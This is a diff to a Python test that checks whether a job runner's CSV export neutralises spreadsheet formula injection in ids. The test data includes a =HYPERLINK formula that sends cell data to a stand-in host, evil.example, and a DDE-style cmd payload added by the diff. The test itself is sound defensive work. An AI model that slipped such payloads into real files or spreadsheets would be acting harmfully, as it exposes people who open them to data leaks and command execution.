@@ -55,14 +55,14 @@ def test_what_a_spreadsheet_would_run_is_words(
 ) -> None:
     """Before: an id of a stranger's was a formula to whoever opened the CSV."""
     without_ray(monkeypatch)
-    own = ['=HYPERLINK("https://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "plain=1"]
+    own = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd|'/C x'!A0", "-2+3", "@SUM(A1)", "\t=1", "plain=1", "-1.5"]
     rows = [json.dumps({"text": "fail", "name": name}) + "\n" for name in own]
     (tmp_path / "rows.jsonl").write_text("".join(rows))
     (tmp_path / "job.yaml").write_text(f"job: toy\ninput: {{path: {tmp_path / 'rows.jsonl'}, id: name}}\n")
     command = ["run-job", str(tmp_path / "job.yaml"), "-o", str(tmp_path / "out"), "--set", "max_failed_fraction=1"]
     assert runner.invoke(app, command).exit_code == 0
     table = csv.DictReader(io.StringIO(runner.invoke(app, ["failed", command[3], "--csv"]).output))
-    assert [row["id"] for row in table] == [*(f"'{name}" for name in own[:4]), "\\x09=1", "plain=1"]
+    assert [row["id"] for row in table] == [*(f"'{name}" for name in own[:4]), "\\x09=1", "plain=1", "-1.5"]
     lines = runner.invoke(app, ["failed", command[3], "--json"]).output.splitlines()
     assert [json.loads(line)["id"] for line in lines] == own
 
